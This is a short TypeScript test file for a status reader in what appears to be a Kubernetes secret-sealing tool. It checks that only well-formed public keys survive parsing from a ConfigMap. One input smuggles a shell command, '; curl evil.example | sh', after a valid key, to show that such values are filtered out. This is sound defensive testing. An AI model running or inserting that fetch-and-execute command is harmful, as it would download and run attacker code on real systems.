import type { StatusDocument } from '@hikyaku/kubernetes';
import { generateIdentity } from '@hikyaku/sealing';
import { expect, test } from 'vitest';
import { readStatus } from './read-status.ts';

test('of public keys nothing is told that is none: anybody may have written them who may write the ConfigMap', async () => {
  const { file, recipient } = await generateIdentity();
  const at = '2026-01-01T00:00:00Z';
  const keysOf = (publicKeys: unknown) => {
    const agent = { version: '1.0.0', startedAt: at, publicKeys };
    const nothing = { sources: {}, secrets: {}, pushes: {}, restarts: {}, holds: [] };
    const config = { digest: 'd', loadedAt: at };
    return readStatus({ version: 1, writtenAt: at, agent, config, ...nothing } as StatusDocument).publicKeys;
  };
  expect(keysOf([recipient])).toEqual([recipient]);
  expect(keysOf([`${recipient}; curl evil.example | sh`, file, 7, recipient])).toEqual([recipient]);
  for (const none of [undefined, 'age1', { 0: recipient }]) expect(keysOf(none)).toEqual([]);
});
